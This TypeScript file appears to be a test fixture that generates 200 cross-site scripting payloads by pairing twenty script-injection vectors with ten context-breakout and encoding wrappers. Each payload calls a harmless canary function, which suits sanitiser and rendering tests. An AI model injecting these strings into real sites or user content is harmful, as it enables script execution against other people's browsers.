/** Ways in which text becomes script where a page is careless; each calls `hit`. */
const vectors = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<a href=javascript:hit()>x</a>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<math><mi xlink:href=javascript:hit()>x',
  '<marquee onstart=hit()>',
  '<object data=javascript:hit()>',
  '<iframe src=javascript:hit()>',
  '<iframe srcdoc=<script>top.hit()</script>>',
  'javascript:hit()',
  "{{constructor.constructor('hit()')()}}",
  '$' + '{hit()}',
  '<template><img src=x onerror=hit()>',
  '<form action=javascript:hit()><button>x',
  '<base href=javascript:hit()//>',
  '<embed src=javascript:hit()>',
]

/** A place where text can appear, and how a payload leaves it. */
const escapes = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</title>${text}`,
  (text: string) => `</script>${text}`,
  (text: string) => `--><!---->${text}`,
  (text: string) => `]]>${text}`,
  (text: string) => text.replaceAll('<', '&lt;'),
  (text: string) => text.replaceAll('<', String.raw`\x3c`),
  (text: string) => text.replaceAll('<', '%3C'),
]

/** Two hundred, none longer than 66 characters. */
export const payloads = vectors.flatMap((vector) => escapes.map((leave) => leave(vector)))
